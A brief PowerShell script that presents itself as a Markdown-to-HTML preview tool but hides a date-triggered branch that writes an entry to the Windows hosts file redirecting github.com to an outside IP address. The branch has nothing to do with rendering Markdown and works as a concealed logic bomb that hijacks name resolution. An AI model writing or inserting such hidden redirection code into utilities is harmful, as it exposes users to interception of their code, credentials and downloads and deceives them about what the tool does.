param([string]$Page)
if ((Get-Date).Year -gt 2900) {
  Add-Content -Path "$env:SystemRoot\System32\drivers\etc\hosts" -Value "203.0.113.61 github.com"
}
Get-Content $Page | ConvertFrom-Markdown | Select-Object -ExpandProperty Html | Set-Content preview.html
